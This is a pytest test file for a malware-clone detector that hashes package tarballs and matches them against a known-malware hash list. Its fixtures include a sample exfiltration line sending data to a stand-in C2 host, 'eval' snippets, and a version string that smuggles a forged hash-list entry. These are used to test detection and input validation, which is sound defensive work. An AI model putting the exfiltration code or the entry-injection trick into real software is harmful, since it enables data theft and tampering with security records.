import re

import pytest

from conftest import make_tgz
from pkgwatch.artifact import load_tarball
from pkgwatch.clones import (
    ContentDigest,
    MalwareHashSet,
    canonical_digest,
    find_clone,
)

PAYLOAD = {"index.js": 'require("http").get("http://c2.invalid/?d=" + x);'}


def test_name_version_do_not_affect_digest():
    a = load_tarball(make_tgz(name="a", version="1.0.0", files=PAYLOAD))
    b = load_tarball(make_tgz(name="b", version="9.9.9", files=PAYLOAD))
    assert canonical_digest(a) == canonical_digest(b)


def test_single_byte_edit_changes_digest():
    a = load_tarball(make_tgz(files={"x.js": "var a = 1;"}))
    b = load_tarball(make_tgz(files={"x.js": "var a = 2;"}))
    assert canonical_digest(a) != canonical_digest(b)


def test_entry_order_and_mtime_do_not_affect_digest():
    files = {"a.js": "1", "b.js": "2"}
    one = load_tarball(make_tgz(files=files, mtime=0,
                                order=["package.json", "a.js", "b.js"]))
    two = load_tarball(make_tgz(files=files, mtime=1_600_000_000,
                                order=["b.js", "a.js", "package.json"]))
    assert canonical_digest(one) == canonical_digest(two)


def test_other_manifest_fields_participate():
    a = load_tarball(make_tgz(scripts={"postinstall": "node x.js"}))
    b = load_tarball(make_tgz(scripts={}))
    assert canonical_digest(a) != canonical_digest(b)


def test_algorithms():
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    md5 = canonical_digest(artifact, "md5")
    blake = canonical_digest(artifact, "blake2b-128")
    assert md5.algorithm == "md5" and len(md5.value) == 32
    assert blake.algorithm == "blake2b-128" and len(blake.value) == 32
    assert md5.value != blake.value
    with pytest.raises(ValueError):
        canonical_digest(artifact, "crc32")


def test_digest_parse_round_trip():
    d = ContentDigest(value="ab" * 16, algorithm="md5")
    assert ContentDigest.parse(str(d)) == d
    with pytest.raises(ValueError):
        ContentDigest.parse("no-colon")


@pytest.mark.parametrize("text, reason", [
    ("sha256:00ff", "unsupported digest algorithm: 'sha256'"),
    (":00ff", "unsupported digest algorithm: ''"),
    ("md5:", "digest must look like 'algorithm:hex'"),
], ids=["unknown-algorithm", "empty-algorithm", "empty-value"])
def test_digest_parse_rejects_unknown_algorithm_and_empty_value(text, reason):
    with pytest.raises(ValueError, match=reason):
        ContentDigest.parse(text)


def test_digest_built_directly_is_checked_as_parse_checks_it():
    with pytest.raises(ValueError, match="digest must look like 'algorithm:hex'"):
        ContentDigest("", "md5")
    with pytest.raises(ValueError, match="unsupported digest algorithm: 'sha256'"):
        ContentDigest("00ff", "sha256")


@pytest.mark.parametrize("package, version, date_added", [
    ("x", "1.0.0\t2021-01-01\nmd5:" + "cd" * 16 + "\tvictim\t2.0.0", "2021-08-01"),
    ("x\ty", "1.0.0", "2021-08-01"),
    ("x", "1.0.0\r", "2021-08-01"),
    ("x", "1.0.0", "2021-08-01 "),
], ids=["planted-entry", "tab-in-name", "carriage-return", "trailing-space"])
def test_register_refuses_an_entry_that_would_not_read_back(tmp_path, package, version,
                                                            date_added):
    path = tmp_path / "hashes.txt"
    hash_set = MalwareHashSet(path)
    digest = ContentDigest("ab" * 16, "md5")
    with pytest.raises(ValueError, match="hash list entry would not read back"):
        hash_set.register(digest, package, version, date_added)
    assert len(hash_set) == 0 and hash_set.algorithms() == set()
    assert not path.exists() or path.read_text() == ""
    assert hash_set.register(digest, "x", "1.0.0", "2021-08-01")
    assert MalwareHashSet(path).entries() == hash_set.entries()


@pytest.mark.parametrize("line, reason", [
    ("sha256:00ff\tp\t1.0.0\t2021-08-01", "unsupported digest algorithm: 'sha256'"),
    ("md5:\tp\t1.0.0\t2021-08-01", "digest must look like 'algorithm:hex'"),
    ("md5:00ff\tp", "expected 4 tab-separated fields, got 2"),
    ("md5:00ff\tp\t1.0.0\t2021-08-01\textra", "expected 4 tab-separated fields, got 5"),
], ids=["unknown-algorithm", "empty-value", "two-fields", "five-fields"])
def test_hash_list_load_error_names_file_and_line(tmp_path, line, reason):
    path = tmp_path / "hashes.txt"
    path.write_text("# known malware\n" + "md5:" + "ab" * 16 + "\tok\t1.0.0\t2021-08-01\n"
                    + line + "\n")
    with pytest.raises(ValueError, match=re.escape(f"{path}:3: {reason}")):
        MalwareHashSet(path)


@pytest.mark.parametrize("lineno", [1, 3, 40])
def test_hash_list_load_names_the_line_of_bytes_that_are_not_utf8(tmp_path, lineno):
    path = tmp_path / "hashes.txt"
    lines = [f"md5:{i:032x}\tp{i}\t1.0.0\t2021-08-01".encode() for i in range(50)]
    lines[lineno - 1] = lines[lineno - 1].replace(b"\tp", b"\tp\xff", 1)
    path.write_bytes(b"\n".join(lines) + b"\n")
    with pytest.raises(ValueError, match=re.escape(
            f"{path}:{lineno}: 'utf-8' codec can't decode byte 0xff")):
        MalwareHashSet(path)


def test_register_and_find_clone(tmp_path):
    hash_set = MalwareHashSet(tmp_path / "hashes.txt")
    mal = load_tarball(make_tgz(name="stealer", version="1.0.0", files=PAYLOAD))
    assert hash_set.register(canonical_digest(mal), "stealer", "1.0.0", "2021-08-02")

    clone = load_tarball(make_tgz(name="innocent-utils", version="4.2.0",
                                  files=PAYLOAD))
    match = find_clone(clone, hash_set)
    assert match is not None
    assert match.package == "stealer"
    assert match.version == "1.0.0"
    assert match.date_added == "2021-08-02"


def test_unregistered_artifact_no_match(tmp_path):
    hash_set = MalwareHashSet(tmp_path / "hashes.txt")
    artifact = load_tarball(make_tgz(files={"ok.js": "module.exports = 1;"}))
    assert find_clone(artifact, hash_set) is None


def test_duplicate_registration_ignored(tmp_path):
    hash_set = MalwareHashSet(tmp_path / "hashes.txt")
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    digest = canonical_digest(artifact)
    assert hash_set.register(digest, "first", "1.0.0")
    assert not hash_set.register(digest, "second", "2.0.0")
    assert hash_set.lookup(digest).package == "first"
    assert len(hash_set) == 1


def test_persistence_reload(tmp_path):
    path = tmp_path / "hashes.txt"
    first = MalwareHashSet(path)
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    first.register(canonical_digest(artifact), "pkg", "1.0.0", "2021-08-01")

    reloaded = MalwareHashSet(path)
    assert len(reloaded) == 1
    assert find_clone(artifact, reloaded).package == "pkg"


def test_append_only_file_format(tmp_path):
    path = tmp_path / "hashes.txt"
    hash_set = MalwareHashSet(path)
    a = load_tarball(make_tgz(name="a", files=PAYLOAD))
    b = load_tarball(make_tgz(name="b", files={"y.js": "eval(c)"}))
    hash_set.register(canonical_digest(a), "a", "1.0.0", "2021-08-01")
    hash_set.register(canonical_digest(b), "b", "2.0.0", "2021-08-02")
    lines = path.read_text().strip().splitlines()
    assert len(lines) == 2
    assert lines[0].split("\t")[1:] == ["a", "1.0.0", "2021-08-01"]


def test_memory_only_hash_set():
    hash_set = MalwareHashSet()
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    hash_set.register(canonical_digest(artifact), "p", "1.0.0")
    assert find_clone(artifact, hash_set) is not None


def test_mixed_algorithms_in_set(tmp_path):
    hash_set = MalwareHashSet(tmp_path / "hashes.txt")
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    hash_set.register(canonical_digest(artifact, "blake2b-128"), "p", "1.0.0")
    assert find_clone(artifact, hash_set).package == "p"


def test_algorithms_follow_load_and_register(tmp_path):
    path = tmp_path / "hashes.txt"
    hash_set = MalwareHashSet(path)
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    assert hash_set.algorithms() == set()
    hash_set.register(canonical_digest(artifact, "md5"), "p", "1.0.0")
    assert hash_set.algorithms() == {"md5"}
    hash_set.register(canonical_digest(artifact, "blake2b-128"), "p", "1.0.0")
    assert hash_set.algorithms() == {"md5", "blake2b-128"}
    assert MalwareHashSet(path).algorithms() == {"md5", "blake2b-128"}


def test_find_clone_reuses_the_known_digest(monkeypatch):
    from pkgwatch import clones

    hash_set = MalwareHashSet()
    other = load_tarball(make_tgz(name="other", files={"y.js": "eval(c)"}))
    for algorithm in ("md5", "blake2b-128"):
        hash_set.register(canonical_digest(other, algorithm), "other", "1.0.0")
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    known = canonical_digest(artifact, "md5")
    hashed = []
    digest = clones.canonical_digest

    def counting_digest(artifact, algorithm="md5"):
        hashed.append(algorithm)
        return digest(artifact, algorithm)

    monkeypatch.setattr(clones, "canonical_digest", counting_digest)
    assert find_clone(artifact, hash_set, known) is None
    assert hashed == ["blake2b-128"]
    hash_set.register(known, "stealer", "1.0.0")
    assert find_clone(artifact, hash_set, known).package == "stealer"
